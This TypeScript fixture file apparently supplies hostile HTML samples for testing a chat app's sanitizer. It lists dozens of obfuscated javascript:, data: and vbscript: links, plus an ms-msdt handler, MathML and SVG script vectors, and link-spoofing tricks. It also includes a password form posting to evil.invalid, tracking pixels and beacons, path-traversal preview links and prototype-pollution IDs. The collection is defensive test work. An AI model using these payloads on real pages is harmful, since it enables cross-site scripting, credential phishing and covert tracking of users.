/** Hostile HTML that leads astray: script in addresses, forms, pictures that report the reader. */
import type { HostileHtml } from './hostileHtml';

/** Addresses that must never be followed, however they are spelled (as attribute text). */
const ADDRESSES: Record<string, string> = {
  'plain script': 'javascript:alert(1)',
  'mixed case': 'JaVaScRiPt:alert(1)',
  'leading spaces': '  \t javascript:alert(1)',
  'a leading control character': '&#1;javascript:alert(1)',
  'a tab inside': 'java&#9;script:alert(1)',
  'a new line inside': 'java&#10;script:alert(1)',
  'a carriage return inside': 'java&#13;script:alert(1)',
  'a reference for the colon': 'javascript&colon;alert(1)',
  'numeric references': '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'hexadecimal references without ends':
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'a tab before the colon': 'javascript&Tab;:alert(1)',
  'a comment that looks like a host': 'javascript://chat.example/%0aalert(1)',
  'a script that looks like a narrow': 'javascript:alert(1)//#narrow/stream/5',
  'a full-width colon': 'javascript：alert(1)',
  'a no-break space before': '&nbsp;javascript:alert(1)',
  'a byte order mark before': '\ufeffjavascript:alert(1)',
  'script of the other sort': 'vbscript:msgbox(1)',
  'script with a live name': 'livescript:alert(1)',
  'data with a page': 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
  'data in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data with a drawing':
    'data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/%3E',
  'data in mixed case': 'DaTa:text/html,x',
  'a blob': 'blob:https://chat.example/00000000-0000-0000-0000-000000000000',
  'a file system': 'filesystem:https://chat.example/temporary/x.html',
  'the source of a page': 'view-source:https://chat.example/',
  'a page about nothing': 'about:blank',
  'an intent': 'intent://x#Intent;scheme=javascript;S.browser_fallback_url=javascript:alert(1);end',
  'a jar': 'jar:https://evil.invalid/x.jar!/y.html',
  'an extension': 'chrome-extension://abcdefghijklmnop/x.html',
  'a handler of the system': 'ms-msdt:/id PCWDiagnostic',
};

const OTHERS: Record<string, string> = {
  'a link that opens in our window by name':
    '<a href="https://evil.invalid/" target="_top" rel="opener">x</a>',
  'a link that downloads a page': '<a href="/user_uploads/x.html" download="x.hta">x</a>',
  'a link that pings': '<a href="https://a.example/" ping="https://evil.invalid/p">x</a>',
  'a link without a scheme': '<a href="//evil.invalid/login">x</a>',
  'a link with backslashes': '<a href="\\\\evil.invalid/login">x</a>',
  'a link with a user for a host':
    '<a href="https://chat.example@evil.invalid/">https://chat.example</a>',
  'a link that hides its end': '<a href="https://chat.example.&#8203;evil.invalid/">x</a>',
  'a link that turns its direction':
    '<a href="https://evil.invalid/">https://chat.example/\u202egnp.live\u202c</a>',
  'a link with an attribute from a quote': '<a href="https://a.example/"onclick="alert(1)">x</a>',
  'a link in a namespace':
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  'a link in a formula': '<math><mi href="javascript:alert(1)">x</mi></math>',
  'a formula that acts':
    '<math><maction actiontype="statusline#https://evil.invalid" href="javascript:alert(1)">x<mtext>y</mtext></maction></math>',
  'an annotation with HTML':
    '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>',
  'an area':
    '<map name="m"><area href="javascript:alert(1)" shape="default"></map><img usemap="#m" src="x">',
  'a form':
    '<form action="https://evil.invalid/"><input name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>',
  'a form with script': '<form action="javascript:alert(1)"><input type="submit"></form>',
  'a button with an action of its own':
    '<form><button formaction="javascript:alert(1)">x</button></form>',
  'a button for a form elsewhere':
    '<button form="compose" formaction="https://evil.invalid/">x</button>',
  'a picture for a button':
    '<form><input type="image" src="x" formaction="javascript:alert(1)"></form>',
  'a picture that reports the reader':
    '<img src="https://evil.invalid/pixel.gif" width="1" height="1">',
  'a picture with a script': '<img src="javascript:alert(1)">',
  'a picture that is a drawing':
    '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E">',
  'a picture by srcset': '<img src="/a.png" srcset="https://evil.invalid/p.gif 2x">',
  'a picture by its long description':
    '<img src="x" longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  'a choice of pictures':
    '<picture><source srcset="https://evil.invalid/p.gif"><img src="x"></picture>',
  'a film that reports the reader':
    '<video src="https://evil.invalid/v.mp4" autoplay poster="https://evil.invalid/p.gif"></video>',
  'a sound that starts by itself': '<audio src="https://evil.invalid/a.mp3" autoplay loop></audio>',
  'a table with a background':
    '<table background="javascript:alert(1)"><tr><td background="https://evil.invalid/p.gif">x</td></tr></table>',
  'a quote with a source': '<blockquote cite="javascript:alert(1)"><p>x</p></blockquote>',
  'an emoji from elsewhere':
    '<img class="emoji" alt=":x:" title="x" src="https://evil.invalid/e.gif">',
  'a preview from elsewhere':
    '<div class="message_inline_image"><a href="javascript:alert(1)"><img src="https://evil.invalid/t.jpg"></a></div>',
  'a preview that climbs out':
    '<div class="message_inline_image"><a href="/user_uploads/../../api/v1/users/me"><img src="/user_uploads/thumbnail/../../../logout/840x560.webp"></a></div>',
  'a size beyond measure':
    '<div class="message_inline_image"><a href="/user_uploads/a.png"><img data-original-dimensions="99999999999x-1" src="/user_uploads/thumbnail/a.png/840x560.webp"></a></div>',
  'a film with a frame for an id':
    '<div class="embed-video message_inline_image"><a data-id="&lt;iframe src=javascript:alert(1)&gt;" href="javascript:alert(1)"><img src="x"></a></div>',
  'a film on YouTube with a path for an id':
    '<div class="youtube-video message_inline_image"><a data-id="../../evil?x=" href="https://youtu.be/x"><img src="x"></a></div>',
  'a page preview with script':
    '<div class="message_embed"><a class="message_embed_image" href="javascript:alert(1)" style="background-image: url(javascript:alert(1))"></a><div class="data-container"><div class="message_embed_title"><a href="javascript:alert(1)">x</a></div></div></div>',
  'a channel link with script':
    '<a class="stream" data-stream-id="5" href="javascript:alert(1)">#x</a>',
  'a topic link that leads outside':
    '<a class="stream-topic" data-stream-id="5" href="https://evil.invalid/#narrow/stream/5">#x &gt; y</a>',
  'a mention of a prototype':
    '<span class="user-mention" data-user-id="__proto__">@x</span><span class="user-mention" data-user-id="constructor">@y</span>',
  'a time beyond all times':
    '<time datetime="+999999-01-01T00:00:00Z">x</time><time datetime="Infinity">y</time>',
  'an emoji beyond all characters':
    '<span class="emoji emoji-ffffffff" title="x">:x:</span><span class="emoji emoji-3c-73-63" title="y">:y:</span>',
  'a list that starts beyond all numbers':
    '<ol start="1e999"><li>x</li></ol><ol start="-0x1"><li>y</li></ol>',
};

/** All of them. */
export const hostileLinks: HostileHtml[] = [
  ...Object.entries(ADDRESSES).map(([name, address]) => ({
    name: `a link with ${name}`,
    html: `<p><a href="${address}">the plan</a></p>`,
  })),
  ...Object.entries(OTHERS).map(([name, html]) => ({ name, html })),
];
